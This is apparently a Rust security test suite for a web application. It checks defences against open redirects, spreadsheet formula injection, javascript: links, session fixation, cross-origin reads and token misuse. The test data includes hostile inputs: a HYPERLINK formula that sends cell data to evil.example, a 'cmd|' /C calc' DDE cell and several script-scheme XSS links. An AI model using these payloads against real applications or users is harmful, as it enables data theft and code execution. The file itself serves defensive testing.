//! Web hygiene: each test attacks over HTTP the way an outsider would
//! (open redirect, spreadsheet formulas, `javascript:` links, HSTS,
//! session fixation, driver text in errors, cross-site reads, public
//! versions, token scope and expiry).

use std::io::Cursor;

use axum::body::Body;
use axum::http::{Request, header};
use calamine::{Data, Reader, Xlsx};
use serde_json::{Value, json};
use vigie_web::WebConfig;

use crate::support::TestApp;

/// A recommendation body the facilitator may post.
fn recommendation(code: &str, title: &str) -> Value {
    json!({
        "code": code, "source": "conference_workshop", "theme": "parliamentary_control",
        "priority": "high", "made_on": "2021-03-18",
        "title": {"fr": title, "en": title}, "text": {"fr": "t", "en": "t"},
        "countries": ["NER"], "addressees": ["NER-CDS"], "illustrative": true,
        "workshop": {"conference": 1, "session": "W1"},
        "history": [{"to": "in_progress", "reason": "r", "by": "dcaf", "institution": "DCAF", "on": "2022-01-01"}]
    })
}

#[tokio::test]
async fn login_next_cannot_send_the_browser_to_another_site() {
    let app = TestApp::demo().await;
    // `%09` is a tab once the form is decoded: browsers drop it, and
    // `/\t/evil.example/` becomes `//evil.example/`.
    for next in [
        "/%09/evil.example/",
        "/%0d%0a/evil.example/",
        "//evil.example/",
        "/%5Cevil.example",
        "%2F%2Fevil.example",
        "https://evil.example/",
        "/%20/evil.example",
        "/%252F/evil.example",
    ] {
        let reply = app
            .post_form(
                "/login",
                &format!("username=bfa-osc-illustr&password=demo&next={next}"),
                None,
            )
            .await;
        assert_eq!(reply.status, 303, "{next}");
        assert_eq!(reply.headers[header::LOCATION], "/", "next={next}");
        // The form shown again keeps no dangerous `next` either.
        let form = app.get(&format!("/login?next={next}")).await;
        assert!(
            form.body.contains(r#"name="next" value="/">"#),
            "next={next}"
        );
    }
    let reply = app
        .post_form(
            "/login",
            "username=bfa-osc-illustr&password=demo&next=/budget%3Fcountry%3DBFA",
            None,
        )
        .await;
    assert_eq!(reply.headers[header::LOCATION], "/budget?country=BFA");
    // Pages repeat their path in the language links: a path that is
    // another site once a browser reads it stays off them.
    for path in [
        "//evil.example/",
        "/%2F/evil.example/",
        "/%09/evil.example/",
    ] {
        let page = app.get(path).await;
        assert!(!page.body.contains("evil.example"), "{path}: {}", page.body);
    }
    app.cleanup().await;
}

/// Every cell of the first sheet of a workbook.
fn first_sheet(bytes: &[u8]) -> Vec<Vec<Data>> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).expect("a workbook");
    let name = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&name).unwrap();
    range.rows().map(<[Data]>::to_vec).collect()
}

#[tokio::test]
async fn a_formula_in_a_title_is_downloaded_as_inert_text() {
    let app = TestApp::demo().await;
    let facilitator = app.token("dcaf").await;
    let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"Cliquez")"#;
    let reply = app
        .post_json(
            "/api/v1/recommendations",
            &facilitator,
            recommendation("REC-2021-W3-97", formula),
        )
        .await;
    assert_eq!(reply.status, 201, "{}", reply.body);

    let csv = app
        .get("/api/v1/recommendations?country=NER&format=csv")
        .await;
    assert_eq!(csv.status, 200);
    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let title = headers.iter().position(|h| h == "title_fr").unwrap();
    let id = headers.iter().position(|h| h == "id").unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let ours = rows
        .iter()
        .find(|r| r[title].contains("HYPERLINK"))
        .expect("the row");
    assert_eq!(&ours[title], format!("'{formula}"));
    assert!(
        rows.iter()
            .all(|r| !r.iter().any(|c| c.starts_with(['=', '+', '@']))),
        "no cell starts a formula"
    );
    assert!(ours[id].parse::<i64>().is_ok(), "numbers stay numbers");

    let xlsx = app
        .get("/api/v1/recommendations?country=NER&format=xlsx")
        .await;
    assert_eq!(xlsx.status, 200);
    let sheet = first_sheet(&xlsx.bytes);
    let header: Vec<String> = sheet[0].iter().map(ToString::to_string).collect();
    let title = header.iter().position(|h| h == "title_fr").unwrap();
    let id = header.iter().position(|h| h == "id").unwrap();
    let ours = sheet
        .iter()
        .find(|r| r[title].to_string().contains("HYPERLINK"))
        .unwrap();
    assert_eq!(ours[title], Data::String(format!("'{formula}")));
    assert!(
        matches!(ours[id], Data::Float(_) | Data::Int(_)),
        "the id is still a number cell: {:?}",
        ours[id]
    );

    // The register's CSV too: a document titled as a formula.
    let daf = app.token("bfa-daf").await;
    let reply = app
        .upload(
            &daf,
            &[
                ("title", "@SUM(1+1)*cmd|' /C calc'!A0"),
                ("reference", "ATTACK-1"),
                ("country", "BFA"),
                ("level", "CD"),
                ("category", "weapons_capabilities"),
                ("declassify_on", "2030-01-01"),
            ],
            b"x",
        )
        .await;
    assert_eq!(reply.status, 201, "{}", reply.body);
    let csv = app
        .call("GET", "/api/v1/documents.csv", Some(&daf), None, vec![])
        .await;
    assert_eq!(csv.status, 200, "{}", csv.body);
    assert!(csv.body.contains("'@SUM(1+1)"), "{}", csv.body);
    app.cleanup().await;
}

#[tokio::test]
async fn hsts_only_when_the_operator_turns_it_on() {
    let off = TestApp::empty().await;
    let reply = off.get("/healthz").await;
    assert!(
        !reply
            .headers
            .contains_key(header::STRICT_TRANSPORT_SECURITY)
    );
    off.cleanup().await;

    let on = TestApp::empty_with(WebConfig {
        hsts: true,
        ..WebConfig::default()
    })
    .await;
    for uri in ["/healthz", "/login", "/no-such-page"] {
        let reply = on.get(uri).await;
        assert_eq!(
            reply.headers[header::STRICT_TRANSPORT_SECURITY],
            "max-age=31536000; includeSubDomains",
            "{uri}"
        );
    }
    on.cleanup().await;
}

#[tokio::test]
async fn a_session_planted_before_sign_in_does_not_survive_it() {
    let app = TestApp::demo().await;
    // The attacker signs in and plants their own session cookie in the
    // victim's browser; the victim then signs in with it still set.
    let planted = app.sign_in("mli-bvg", "demo").await;
    let form = app.get_with_cookie("/login", &planted).await;
    let token = form.csrf_token().expect("the form carries the token");
    let reply = app
        .post_form(
            "/login",
            &format!("csrf_token={token}&username=bfa-codes&password=demo"),
            Some(&planted),
        )
        .await;
    assert_eq!(reply.status, 303, "{}", reply.body);
    // The planted session ends with the right password, before the code.
    assert_eq!(
        app.get_with_cookie("/api/v1/me", &planted).await.status,
        401
    );
    let challenge = reply.cookie("vigie_challenge").expect("the code step");
    let reply = app
        .answer_code(
            &format!("{planted}; {challenge}"),
            &app.codes.next("bfa-codes"),
        )
        .await;
    assert_eq!(reply.status, 303, "{}", reply.body);
    let fresh = reply.session_cookie().expect("a new session");
    assert_ne!(fresh, planted, "a fresh secret");
    assert_eq!(
        app.get_with_cookie("/api/v1/me", &planted).await.status,
        401
    );
    let me = app.get_with_cookie("/api/v1/me", &fresh).await;
    assert_eq!(me.json()["username"], "bfa-codes");

    // Signing out ends the session server-side too.
    let page = app.get_with_cookie("/", &fresh).await;
    let token = page.csrf_token().unwrap();
    app.post_form("/logout", &format!("csrf_token={token}"), Some(&fresh))
        .await;
    assert_eq!(app.get_with_cookie("/api/v1/me", &fresh).await.status, 401);
    app.cleanup().await;
}

/// What a driver's unique-violation text would give away.
fn assert_no_driver_text(body: &str) {
    let lower = body.to_lowercase();
    for leak in [
        "unique",
        "constraint",
        "duplicate key",
        "sqlite",
        "postgres",
        "documents.",
        "_key",
        "violates",
    ] {
        assert!(!lower.contains(leak), "`{leak}` leaked: {body}");
    }
}

#[tokio::test]
async fn a_duplicate_is_refused_without_database_text() {
    let app = TestApp::demo().await;
    let daf = app.token("bfa-daf").await;
    let fields = [
        ("title", "Note"),
        ("reference", "DUP-1"),
        ("country", "BFA"),
        ("level", "CD"),
        ("category", "weapons_capabilities"),
        ("declassify_on", "2030-01-01"),
    ];
    assert_eq!(app.upload(&daf, &fields, b"x").await.status, 201);
    let again = app.upload(&daf, &fields, b"y").await;
    assert_eq!(again.status, 409, "{}", again.body);
    assert_no_driver_text(&again.body);
    assert!(again.body.contains("reference"), "{}", again.body);

    let facilitator = app.token("dcaf").await;
    let body = recommendation("REC-2021-W3-96", "Titre");
    assert_eq!(
        app.post_json("/api/v1/recommendations", &facilitator, body.clone())
            .await
            .status,
        201
    );
    let again = app
        .post_json("/api/v1/recommendations", &facilitator, body)
        .await;
    assert!(again.status == 409 || again.status == 422, "{}", again.body);
    assert_no_driver_text(&again.body);
    assert!(again.body.contains("code"), "{}", again.body);
    app.cleanup().await;
}

#[tokio::test]
async fn session_dependent_answers_are_not_readable_cross_site() {
    let app = TestApp::demo().await;
    let reply = app
        .post_form("/login", "username=bfa-osc-illustr&password=demo", None)
        .await;
    let cookie = reply
        .set_cookies()
        .into_iter()
        .find(|c| c.starts_with("vigie_session="))
        .unwrap();
    assert!(cookie.contains("HttpOnly"), "{cookie}");
    assert!(
        cookie.contains("SameSite=Lax") || cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    // A cleared reader's session (opened with the second factor).
    let session = app.sign_in("bfa-codes", "demo").await;
    for uri in [
        "/log/entries?start=0&end=1",
        "/api/v1/me",
        "/api/v1/documents",
        "/api/v1/recommendations",
        "/",
    ] {
        // As another site's page would ask, with the reader's cookie.
        let request = Request::get(uri)
            .header(header::COOKIE, &session)
            .header(header::ORIGIN, "https://evil.example")
            .header("sec-fetch-site", "cross-site")
            .body(Body::empty())
            .unwrap();
        let reply = app.send(request).await;
        assert_eq!(reply.status, 200, "{uri}");
        assert!(
            !reply
                .headers
                .contains_key(header::ACCESS_CONTROL_ALLOW_ORIGIN),
            "{uri}"
        );
        assert!(
            !reply
                .headers
                .contains_key(header::ACCESS_CONTROL_ALLOW_CREDENTIALS),
            "{uri}"
        );
        assert_eq!(
            reply.headers["cross-origin-resource-policy"], "same-origin",
            "{uri}"
        );
        let vary: Vec<&str> = reply
            .headers
            .get_all(header::VARY)
            .iter()
            .filter_map(|v| v.to_str().ok())
            .collect();
        assert!(
            vary.iter().any(|v| v
                .split(',')
                .any(|p| p.trim().eq_ignore_ascii_case("cookie"))),
            "{uri}: {vary:?}"
        );
    }
    // A preflight gets no CORS grant either.
    let request = Request::builder()
        .method("OPTIONS")
        .uri("/api/v1/me")
        .header(header::ORIGIN, "https://evil.example")
        .header("access-control-request-method", "GET")
        .body(Body::empty())
        .unwrap();
    let reply = app.send(request).await;
    assert!(
        !reply
            .headers
            .contains_key(header::ACCESS_CONTROL_ALLOW_ORIGIN)
    );
    app.cleanup().await;
}

#[tokio::test]
async fn a_read_token_cannot_write_and_an_expired_token_opens_nothing() {
    use vigie_domain::TokenScope;
    use vigie_store::{Actor, TokenSpec};
    let app = TestApp::demo().await;
    let now = time::OffsetDateTime::now_utc();
    let token = |scope, expires_at| {
        let spec = TokenSpec {
            label: "attack".into(),
            scope,
            expires_at: Some(expires_at),
        };
        let store = app.db.store.clone();
        async move {
            store
                .create_api_token_with(&Actor::Cli, &"dcaf".parse().unwrap(), &spec)
                .await
                .unwrap()
                .secret
        }
    };
    let read = token(TokenScope::Read, now + time::Duration::days(90)).await;
    let expired = token(TokenScope::Write, now - time::Duration::minutes(1)).await;
    let write = token(TokenScope::Write, now + time::Duration::days(1)).await;

    let me = app
        .call("GET", "/api/v1/me", Some(&read), None, vec![])
        .await;
    assert_eq!(me.status, 200, "a read token reads");
    let body = recommendation("REC-2021-W3-95", "Titre");
    let reply = app
        .post_json("/api/v1/recommendations", &read, body.clone())
        .await;
    assert_eq!(reply.status, 403, "{}", reply.body);
    assert!(reply.body.contains("read"), "{}", reply.body);
    for method in ["PUT", "DELETE", "PATCH"] {
        let reply = app
            .call(method, "/api/v1/recommendations", Some(&read), None, vec![])
            .await;
        assert_eq!(reply.status, 403, "{method}");
    }
    assert_eq!(
        app.get("/api/v1/recommendations/REC-2021-W3-95")
            .await
            .status,
        404,
        "nothing was written"
    );

    for (method, uri) in [("GET", "/api/v1/me"), ("POST", "/api/v1/recommendations")] {
        let reply = app.call(method, uri, Some(&expired), None, vec![]).await;
        assert_eq!(reply.status, 401, "{method} {uri}");
    }

    let reply = app.post_json("/api/v1/recommendations", &write, body).await;
    assert_eq!(reply.status, 201, "a write token writes: {}", reply.body);
    app.cleanup().await;
}

#[tokio::test]
async fn a_public_version_carries_nothing_of_the_classification_record() {
    let app = TestApp::demo().await;
    let daf = app.token("bfa-daf").await;
    let reply = app
        .upload(
            &daf,
            &[
                ("title", "Rapport d'inspection"),
                ("reference", "PUBV-1"),
                ("country", "BFA"),
                ("level", "CD"),
                ("category", "weapons_capabilities"),
                ("declassify_on", "2030-01-01"),
                ("legal_basis", "Instruction interne IGI-77"),
                (
                    "justification",
                    "JUSTIF-SECRETE: cite la source humaine Faucon",
                ),
                ("review_on", "2027-01-01"),
            ],
            b"Constat public.\nSource Faucon, agent double.\n",
        )
        .await;
    assert_eq!(reply.status, 201, "{}", reply.body);
    let id = reply.json()["id"].as_i64().unwrap();
    let reply = app
        .post_json(
            &format!("/api/v1/documents/{id}/declassify"),
            &daf,
            json!({"reasons": "intérêt public", "remove": ["Source Faucon, agent double."]}),
        )
        .await;
    assert_eq!(reply.status, 200, "{}", reply.body);
    let public = reply.json()["public_version"]
        .as_i64()
        .expect("a public version");

    // Anyone, signed in or not, reads it; nothing of the original's
    // classification record comes with it.
    let json = app.get(&format!("/api/v1/documents/{public}")).await;
    assert_eq!(json.status, 200, "{}", json.body);
    let html = app.get(&format!("/documents/{public}")).await;
    assert_eq!(html.status, 200);
    let content = app
        .get(&format!("/api/v1/documents/{public}/content"))
        .await;
    assert_eq!(content.status, 200);
    for body in [&json.body, &html.body, &content.body] {
        for secret in [
            "JUSTIF-SECRETE",
            "Faucon",
            "IGI-77",
            "2027-01-01",
            "2030-01-01",
        ] {
            assert!(!body.contains(secret), "`{secret}` in {body}");
        }
    }
    let meta = json.json();
    assert_eq!(meta["justification"], "");
    assert_eq!(meta["legal_basis"], "");
    assert_eq!(meta["review_on"], Value::Null);
    app.cleanup().await;
}

#[tokio::test]
async fn script_links_are_refused_wherever_a_link_comes_in() {
    let app = TestApp::demo().await;
    let facilitator = app.token("dcaf").await;
    let bad_links = [
        "javascript:alert(document.cookie)",
        "JavaScript://%0aalert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
    ];
    // Through the recording of a recommendation (the import's path).
    for link in bad_links {
        let mut body = recommendation("REC-2021-W3-94", "Titre");
        body["evidence"] =
            json!([{"title": "Preuve", "url": link, "added_by": "dcaf", "added_on": "2022-01-02"}]);
        let reply = app
            .post_json("/api/v1/recommendations", &facilitator, body)
            .await;
        assert_eq!(reply.status, 422, "{link}: {}", reply.body);
        assert!(reply.body.contains("/evidence/0/url"), "{}", reply.body);
    }
    let reply = app
        .post_json(
            "/api/v1/recommendations",
            &facilitator,
            recommendation("REC-2021-W3-94", "Titre"),
        )
        .await;
    assert_eq!(reply.status, 201, "{}", reply.body);
    // Through the evidence endpoint.
    let url = "/api/v1/recommendations/REC-2021-W3-94/evidence";
    for link in bad_links {
        let reply = app
            .post_json(url, &facilitator, json!({"title": "Preuve", "url": link}))
            .await;
        assert_eq!(reply.status, 422, "{link}: {}", reply.body);
        assert!(reply.body.contains("url"), "{}", reply.body);
    }
    let reply = app
        .post_json(
            url,
            &facilitator,
            json!({"title": "Décret", "url": "https://example.org/decret"}),
        )
        .await;
    assert_eq!(reply.status, 200, "{}", reply.body);
    // No page renders a script link.
    let page = app.get("/recommendations/REC-2021-W3-94").await;
    assert_eq!(page.status, 200);
    assert!(page.body.contains(r#"href="https://example.org/decret""#));
    for uri in [
        "/recommendations/REC-2021-W3-94",
        "/institutions",
        "/assessments",
        "/conferences/1",
    ] {
        let body = app.get(uri).await.body.to_ascii_lowercase();
        for scheme in ["javascript:", "data:", "vbscript:"] {
            assert!(!body.contains(&format!("href=\"{scheme}")), "{uri}");
        }
    }
    // A row stored before links were checked is shown without its link.
    app.db
        .execute(
            "UPDATE recommendation_evidence SET url = 'javascript:alert(1)'",
            None,
        )
        .await
        .unwrap();
    app.db
        .execute(
            "UPDATE conference_documents SET url = 'javascript:alert(2)' WHERE url IS NOT NULL",
            None,
        )
        .await
        .unwrap();
    for uri in [
        "/recommendations/REC-2021-W3-94",
        "/api/v1/recommendations/REC-2021-W3-94",
        "/conferences/1",
        "/api/v1/conferences/1",
    ] {
        let body = app.get(uri).await.body;
        assert!(!body.contains("javascript:"), "{uri}");
    }
    app.cleanup().await;
}
